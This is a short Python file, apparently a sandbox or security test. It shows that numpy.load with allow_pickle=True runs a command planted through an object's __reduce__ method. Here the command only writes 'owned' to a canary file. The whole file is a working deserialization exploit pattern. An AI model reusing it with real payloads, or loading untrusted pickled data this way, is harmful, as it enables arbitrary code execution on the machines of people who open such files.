"""Has numpy unpickle what would run a command."""
import io
import os
import numpy


class Evil:
    def __reduce__(self):
        return os.system, ("echo owned > /tmp/owned",)


def attack(canary):
    global Evil
    Evil.__reduce__ = lambda self: (os.system, ("echo owned > " + canary["file"],))
    box = io.BytesIO()
    numpy.save(box, numpy.array([Evil()], dtype=object), allow_pickle=True)
    box.seek(0)
    assert numpy.load(box, allow_pickle=True)[0] == 0
    return "escaped"
